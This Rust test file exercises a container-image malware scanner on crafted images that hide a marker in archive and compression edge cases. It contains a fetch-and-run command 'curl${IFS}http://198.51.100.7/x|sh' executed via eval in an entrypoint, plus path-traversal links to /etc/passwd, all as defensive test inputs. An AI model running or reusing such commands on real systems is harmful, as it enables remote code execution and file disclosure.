//! Cases that every tool in this field got wrong once. Each hides a marker where another scanner
//! did not look; ours must see it, or say that it could not.
#![allow(clippy::unwrap_used)]

mod support;

use support::{MARKER, Place, RawImage, Said, Tar, gzip, sha256, write_index, zstd};

const GZIP: &str = "application/vnd.oci.image.layer.v1.tar+gzip";
const PLAIN: &str = "application/vnd.oci.image.layer.v1.tar";

fn seen(said: &Said) {
    assert_eq!(said.code, 1, "the marker was not seen: {said:?}");
}

/// Scans an image of one layer, given as tar.
fn one_layer(tar: Vec<u8>) -> Said {
    let place = Place::new();
    let mut image = RawImage::default();
    image.layer(tar);
    place.scan_marker(&image.write(&place.path("image")), &[])
}

fn one_blob(blob: Vec<u8>, tar: &[u8], media_type: &str) -> Said {
    let place = Place::new();
    let mut image = RawImage::default();
    image.blob(blob, sha256(tar), media_type);
    place.scan_marker(&image.write(&place.path("image")), &[])
}

fn marked() -> Vec<u8> {
    Tar::default().file("opt/tool", format!("\x7fELF{MARKER}").as_bytes()).end()
}

fn elf() -> Vec<u8> {
    format!("\x7fELF{MARKER}").into_bytes()
}

#[test]
fn a_whiteout_entry_with_content_is_read() {
    seen(&one_layer(Tar::default().file(".wh.x", &elf()).end()));
}

#[test]
fn an_opaque_marker_with_content_is_read() {
    seen(&one_layer(Tar::default().file("opt/.wh..wh..opq", &elf()).end()));
}

#[test]
fn data_after_the_end_of_the_tar_is_read_and_told() {
    let mut tar = Tar::default().file("app", b"x").end();
    tar.extend_from_slice(&elf());
    tar.resize(tar.len().next_multiple_of(512), 0);
    let said = one_layer(tar);
    seen(&said);
}

#[test]
fn a_file_deleted_in_a_later_layer_is_evidence() {
    let place = Place::new();
    let mut image = RawImage::default();
    image.layer(marked());
    image.layer(Tar::default().file("opt/.wh.tool", b"").end());
    let said = place.scan_marker(&image.write(&place.path("image")), &[]);
    seen(&said);
    assert!(said.out.contains("removed"), "{said:?}");
}

#[test]
fn the_other_platform_of_an_index_is_judged() {
    let place = Place::new();
    let mut good = RawImage::default();
    good.layer(Tar::default().file("app", b"x").end());
    let mut bad = RawImage {
        platform: serde_json::json!({"architecture": "arm64", "os": "linux"}),
        ..RawImage::default()
    };
    bad.config["architecture"] = serde_json::json!("arm64");
    bad.layer(marked());
    let dir = place.path("index");
    write_index(&dir, &[&good, &bad]);
    let said = place.scan_marker(&dir, &[]);
    seen(&said);
    assert!(said.out.contains("linux/arm64"), "{said:?}");
    let narrowed = place.scan_marker(&dir, &["--platform", "linux/amd64"]);
    assert_eq!(narrowed.code, 0, "{narrowed:?}");
}

#[test]
fn no_such_platform_is_an_error_that_lists_those_there_are() {
    let place = Place::new();
    let mut image = RawImage::default();
    image.layer(marked());
    let said = place.scan_marker(&image.write(&place.path("image")), &["--platform", "linux/s390x"]);
    assert_eq!(said.code, 2, "{said:?}");
    assert!(said.err.contains("linux/amd64"), "{said:?}");
}

#[test]
fn a_schema_1_manifest_is_refused_with_a_clear_error() {
    let place = Place::new();
    let dir = place.path("old");
    let manifest =
        br#"{"schemaVersion":1,"name":"x","tag":"1","architecture":"amd64","fsLayers":[],"history":[]}"#;
    let digest = support::put(&dir, manifest);
    let index = format!(
        r#"{{"schemaVersion":2,"manifests":[{{"mediaType":"application/vnd.docker.distribution.manifest.v1+prettyjws","digest":"{digest}","size":{}}}]}}"#,
        manifest.len()
    );
    std::fs::write(dir.join("index.json"), index).unwrap();
    std::fs::write(dir.join("oci-layout"), r#"{"imageLayoutVersion":"1.0.0"}"#).unwrap();
    let said = place.scan_marker(&dir, &[]);
    assert!(matches!(said.code, 2 | 3), "{said:?}");
    let text = format!("{}{}", said.out, said.err);
    assert!(text.contains("schema 1"), "{said:?}");
}

#[test]
fn a_zstd_layer_is_read() {
    let tar = marked();
    seen(&one_blob(zstd(&tar), &tar, "application/vnd.oci.image.layer.v1.tar+zstd"));
}

#[test]
fn an_uncompressed_layer_that_claims_to_be_gzip_is_read() {
    let tar = marked();
    seen(&one_blob(tar.clone(), &tar, GZIP));
}

#[test]
fn a_gzip_layer_that_claims_to_be_plain_is_read() {
    let tar = marked();
    seen(&one_blob(gzip(&tar), &tar, PLAIN));
}

#[test]
fn a_file_in_nested_compression_is_read() {
    let inner = zstd(&gzip(&marked()));
    seen(&one_layer(Tar::default().file("data.bin", &inner).end()));
}

#[test]
fn a_gzip_layer_of_two_members_is_read_to_its_end() {
    let tar = marked();
    let (head, tail) = tar.split_at(512);
    let mut blob = gzip(head);
    blob.extend(gzip(tail));
    seen(&one_blob(blob, &tar, GZIP));
}

#[test]
fn a_file_larger_than_the_whole_file_limit_is_read() {
    let place = Place::new();
    let mut content = vec![0_u8; 5 << 20];
    content[..4].copy_from_slice(b"\x7fELF");
    // Across the edge of two windows.
    let at = (4 << 20) - 10;
    content[at..at + MARKER.len()].copy_from_slice(MARKER.as_bytes());
    let mut image = RawImage::default();
    image.layer(Tar::default().file("opt/big", &content).end());
    let said = place.scan_marker(&image.write(&place.path("image")), &["--max-whole-file", "1M"]);
    seen(&said);
}

#[test]
fn a_file_padded_to_hide_its_middle_is_read() {
    let mut content = vec![0_u8; 20 << 20];
    content[..4].copy_from_slice(b"\x7fELF");
    let at = 10 << 20;
    content[at..at + MARKER.len()].copy_from_slice(MARKER.as_bytes());
    seen(&one_layer(Tar::default().file("opt/big", &content).end()));
}

#[test]
fn no_name_and_no_folder_is_skipped() {
    for name in ["usr/lib/libprocesshider.so", "boot/x.lock", "proc/1", "sys/x", "a.jpg", "x.log", "run/x.db"]
    {
        seen(&one_layer(Tar::default().file(name, &elf()).end()));
    }
}

#[test]
fn a_truncated_layer_is_scanned_as_far_as_it_goes_and_never_clean() {
    let tar = {
        let mut tar = Tar::default();
        tar.file("opt/tool", &elf());
        tar.file("filler", &vec![7; 300_000]);
        tar.end()
    };
    let mut blob = gzip(&tar);
    blob.truncate(blob.len() - 20);
    let place = Place::new();
    let mut image = RawImage::default();
    image.blob(blob, sha256(&tar), GZIP);
    let said = place.scan_marker(&image.write(&place.path("cut")), &[]);
    seen(&said);
    assert!(said.out.contains("damaged") || said.out.contains("ends"), "{said:?}");

    // The same without the marker: not clean.
    let clean = Tar::default().file("filler", &(0..=255).cycle().take(300_000).collect::<Vec<u8>>()).end();
    let mut blob = gzip(&clean);
    blob.truncate(blob.len() - 20);
    assert_eq!(one_blob(blob, &clean, GZIP).code, 3);
}

#[test]
fn a_broken_checksum_at_the_end_of_gzip_is_told_and_the_content_scanned() {
    let tar = marked();
    let mut blob = gzip(&tar);
    let at = blob.len() - 6;
    blob[at] ^= 0xff;
    let said = one_blob(blob, &tar, GZIP);
    seen(&said);
}

#[test]
fn a_link_out_of_the_layer_opens_nothing_of_this_machine() {
    let mut tar = Tar::default();
    tar.raw(b"start", b'2', 0, b"../../../../../../etc/hostname", b"");
    tar.raw(b"hard", b'1', 0, b"/etc/passwd", b"");
    let place = Place::new();
    let mut image = RawImage::default();
    image.config["config"]["Entrypoint"] = serde_json::json!(["/start"]);
    image.layer(tar.end());
    let said = place.scan_marker(&image.write(&place.path("image")), &[]);
    assert!(matches!(said.code, 0 | 3), "{said:?}");
    assert!(!said.out.contains("root:"), "{said:?}");
}

#[test]
fn links_in_a_loop_end() {
    let mut tar = Tar::default();
    tar.raw(b"a", b'2', 0, b"b", b"").raw(b"b", b'2', 0, b"a", b"");
    tar.raw(b"h1", b'1', 0, b"h2", b"").raw(b"h2", b'1', 0, b"h1", b"");
    let place = Place::new();
    let mut image = RawImage::default();
    image.config["config"]["Entrypoint"] = serde_json::json!(["/a"]);
    image.layer(tar.end());
    let said = place.scan_marker(&image.write(&place.path("image")), &[]);
    assert!(matches!(said.code, 0 | 3), "{said:?}");
}

#[test]
fn a_sparse_file_that_claims_terabytes_costs_nothing_and_its_data_is_read() {
    let mut tar = Tar::default();
    let data = elf();
    tar.pax(&[
        ("GNU.sparse.major", "1"),
        ("GNU.sparse.minor", "0"),
        ("GNU.sparse.name", "opt/sparse"),
        ("GNU.sparse.realsize", "8796093022208"),
    ]);
    let mut body = format!("1\n8796093000000\n{}\n", data.len()).into_bytes();
    body.resize(512, 0);
    body.extend_from_slice(&data);
    tar.raw(b"GNUSparseFile.0/sparse", b'0', body.len() as u64, b"", &body);
    seen(&one_layer(tar.end()));
}

#[test]
fn a_pax_size_wins_over_the_header() {
    let content = elf();
    let mut tar = Tar::default();
    tar.pax(&[("size", &content.len().to_string())]);
    // The header says 0; a reader that believes it takes the content for headers.
    let mut raw = Tar::default();
    raw.raw(b"opt/tool", b'0', 0, b"", b"");
    tar.0.extend_from_slice(&raw.0);
    tar.0.extend_from_slice(&content);
    let padded = tar.0.len().next_multiple_of(512);
    tar.0.resize(padded, 0);
    seen(&one_layer(tar.end()));
}

#[test]
fn both_of_two_entries_with_one_name_are_read() {
    for (first, second) in [(elf(), b"x".to_vec()), (b"x".to_vec(), elf())] {
        seen(&one_layer(Tar::default().file("opt/tool", &first).file("opt/tool", &second).end()));
    }
}

#[test]
fn devices_and_setuid_files_do_not_stop_the_reading() {
    let mut tar = Tar::default();
    tar.raw(b"dev/sda", b'4', 0, b"", b"").raw(b"dev/tty", b'3', 0, b"", b"").raw(b"pipe", b'6', 0, b"", b"");
    tar.file("opt/tool", &elf());
    seen(&one_layer(tar.end()));
}

#[test]
fn a_name_that_is_no_text_is_no_hiding_place() {
    let mut tar = Tar::default();
    let content = elf();
    tar.raw(b"opt/\xff\xfe\x1b[2J", b'0', content.len() as u64, b"", &content);
    let said = one_layer(tar.end());
    seen(&said);
    assert!(!said.out.contains('\u{1b}'), "{said:?}");
}

#[test]
fn a_foreign_layer_is_never_fetched_and_never_clean() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let place = Place::new();
    let mut image = RawImage::default();
    let layer = image.layer(marked());
    layer.media_type = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip".into();
    layer.urls = vec![format!("http://127.0.0.1:{port}/layer")];
    layer.present = false;
    let said = place.scan_marker(&image.write(&place.path("image")), &[]);
    assert_eq!(said.code, 3, "{said:?}");
    assert!(listener.accept().is_err(), "the address in the image was contacted");
}

#[test]
fn an_entrypoint_assembled_from_the_environment_starts_what_it_names() {
    let place = Place::new();
    let said = {
        let image = place.recipe(
            "env",
            &format!(
                "ENV A=/opt/\nENV B=tool\nELF /opt/tool 0755\n    {MARKER}\nELF /bin/sh 0755\n    sh\n\
                 ENTRYPOINT [\"/bin/sh\", \"-c\", \"exec $A$B\"]\n"
            ),
        );
        place.scan_marker(&image, &[])
    };
    seen(&said);
    assert!(said.out.starts_with("malicious"), "{said:?}");
}

#[test]
fn a_payload_in_a_label_that_is_run_is_followed() {
    let place = Place::new();
    let payload = support::gzip(b"unused");
    drop(payload);
    let image = place.recipe(
        "label",
        "ELF /bin/sh 0755\n    sh\n\
         ENV PAYLOAD=curl${IFS}http://198.51.100.7/x|sh\n\
         ENTRYPOINT [\"/bin/sh\", \"-c\", \"eval $PAYLOAD\"]\n",
    );
    let said =
        place.run(&["scan", "--no-store", "--fail-on", "suspicious", &format!("oci:{}", image.display())]);
    assert_eq!(said.code, 1, "{said:?}");
}

#[test]
fn an_image_without_layers_is_no_error_and_an_index_without_images_is_never_clean() {
    let place = Place::new();
    let empty = RawImage::default().write(&place.path("empty"));
    let said = place.scan_marker(&empty, &[]);
    assert!(matches!(said.code, 0 | 3), "{said:?}");

    let dir = place.path("nothing");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("index.json"), r#"{"schemaVersion":2,"manifests":[]}"#).unwrap();
    std::fs::write(dir.join("oci-layout"), r#"{"imageLayoutVersion":"1.0.0"}"#).unwrap();
    let said = place.scan_marker(&dir, &[]);
    assert!(matches!(said.code, 2 | 3), "{said:?}");
}

#[test]
fn a_history_that_lies_about_layers_does_not_stop_the_reading() {
    let place = Place::new();
    let mut image = RawImage::default();
    image.config["history"] = serde_json::json!([
        {"created_by": "RUN true", "empty_layer": true},
        {"created_by": "RUN true", "empty_layer": true},
    ]);
    image.layer(marked());
    seen(&place.scan_marker(&image.write(&place.path("image")), &[]));
}

#[test]
fn a_hidden_archive_in_an_archive_is_read() {
    let inner = Tar::default().file("tool", &elf()).end();
    let outer = Tar::default().file("inner.tar.gz", &gzip(&inner)).end();
    seen(&one_layer(Tar::default().file("opt/docs.tar", &outer).end()));
}

#[test]
fn a_damaged_test_archive_that_is_plain_data_stays_clean() {
    let mut broken = gzip(&vec![9; 100_000]);
    broken.truncate(broken.len() / 2);
    let said = one_layer(Tar::default().file("usr/share/tests/bad.gz", &broken).end());
    assert_eq!(said.code, 0, "{said:?}");
}

#[test]
fn padding_a_program_past_the_first_window_hides_it_from_no_rule() {
    let place = Place::new();
    // As most rules for programs are written: the magic first, then what gives it away.
    let rule = format!(
        "rule marked_program {{\n  meta:\n    title = \"be a program with the marker\"\n    explanation = \"A marker.\"\n    \
         class = \"malware\"\n    severity = \"high\"\n    confidence = \"high\"\n  strings:\n    $a = \"{MARKER}\"\n  \
         condition:\n    uint32(0) == 0x464c457f and $a\n}}\n"
    );
    std::fs::write(place.path("rules/marker.yar"), rule).unwrap();
    let mut content = vec![0_u8; 5 << 20];
    content[..4].copy_from_slice(b"\x7fELF");
    let at = 4_500_000;
    content[at..at + MARKER.len()].copy_from_slice(MARKER.as_bytes());
    let mut image = RawImage::default();
    image.layer(Tar::default().file("opt/big", &content).end());
    seen(&place.scan_marker(&image.write(&place.path("image")), &["--max-whole-file", "1M"]));
}
